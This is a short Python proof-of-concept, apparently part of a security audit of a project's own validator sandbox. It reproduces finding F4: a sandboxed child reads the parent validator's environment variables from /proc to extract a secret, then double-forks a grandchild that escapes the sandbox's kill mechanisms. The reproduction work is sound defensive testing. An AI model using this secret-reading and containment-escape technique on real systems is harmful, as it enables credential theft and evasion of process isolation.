"""F4 (defence in depth: needs code execution inside a bounded child, e.g. a parser exploit):
a served child runs as the validator's uid, so it (a) reads the validator's environment from
/proc/<validator>/environ (found as its server's parent), and (b) leaves a grandchild in a new
session that neither the group kill nor the parent-death signal reaches: it outlives run_child.

Run: REPRO_SECRET=s3cret .venv/bin/python attack_repros/r4_child_escape.py
"""

import os
import signal
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

CHILD = r"""
import os, sys, time
server = os.getppid()
validator = int(open(f"/proc/{server}/stat").read().rsplit(")", 1)[1].split()[1])
env = open(f"/proc/{validator}/environ", "rb").read().split(b"\0")
open(sys.argv[1], "wb").write(b"\n".join(e for e in env if e.startswith(b"REPRO_SECRET")))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open(sys.argv[2], "w").write(str(os.getpid()))
        time.sleep(120)
    os._exit(0)
"""


def main() -> None:
    from validator.kit.child_process import ChildLimits, run_child

    tmp = Path(tempfile.mkdtemp())
    script = tmp / "child.py"
    script.write_text(CHILD)
    loot, pidfile = tmp / "loot", tmp / "grandchild.pid"
    result = run_child(
        script,
        [str(loot), str(pidfile)],
        cwd=tmp / "work",
        limits=ChildLimits(wall_seconds=30, cpu_seconds=10),
    )
    print("child:", result.outcome.value, "| served:", "fresh" not in result.stderr_tail)
    print("read from the validator's environ:", loot.read_bytes().decode() or "(nothing)")
    time.sleep(1)
    pid = int(pidfile.read_text())
    alive = Path(f"/proc/{pid}").exists()
    print(f"grandchild {pid} alive after run_child returned: {alive}")
    if alive:
        os.kill(pid, signal.SIGKILL)


if __name__ == "__main__":
    main()
